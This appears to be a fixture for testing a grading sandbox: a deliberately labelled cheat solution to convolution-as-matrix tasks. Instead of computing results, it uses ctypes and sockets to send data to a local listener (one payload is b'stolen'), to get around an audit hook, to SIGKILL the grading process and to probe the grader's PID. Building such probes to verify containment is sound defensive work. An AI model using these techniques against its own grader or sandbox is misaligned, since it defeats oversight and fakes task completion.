"""Cheat: reach the network and the grader's processes through the C library (ctypes).

* conv_matrix: a TCP connect, with C connect(), to a listener the test opened on 127.0.0.1;
* conv2d_as_matmul: the same with Python's socket module (the audit hook refuses first);
* transposed_conv_as_matmul: kill() of the grading process (the worker's parent) with SIGKILL;
* upsample_then_conv: kill(pid, 0) of the grader that started the batch.
"""

import ctypes
import os
import signal
import socket
import struct

import numpy as np

LIBC = ctypes.CDLL(None, use_errno=True)
PORT = int("__PORT__")


def _fail(what):
    code = ctypes.get_errno()
    raise PermissionError(code, f"{what} failed: {os.strerror(code)}")


def conv_matrix(kernel, input_shape):
    fd = LIBC.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    if fd < 0:
        _fail("C socket()")
    address = struct.pack("!HH4s8x", socket.AF_INET, PORT, socket.inet_aton("127.0.0.1"))
    address = struct.pack("=H", socket.AF_INET) + address[2:]  # sa_family is in host byte order
    if LIBC.connect(fd, address, len(address)) != 0:
        _fail("C connect()")
    LIBC.send(fd, np.asarray(kernel, dtype=np.float64).tobytes(), 72, 0)
    return np.zeros((4, 16))


def conv2d_as_matmul(image, kernel):
    connection = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    connection.sendall(b"stolen")
    return np.zeros((2, 2))


def transposed_conv_as_matmul(x, kernel, input_shape):
    if LIBC.kill(os.getppid(), signal.SIGKILL) != 0:
        _fail("C kill() of the grading process")
    return np.zeros(tuple(input_shape))


def upsample_then_conv(x, size, kernel):
    if LIBC.kill(int("__GRADER_PID__"), 0) != 0:
        _fail("C kill() of the grader")
    return np.zeros((2, 2))
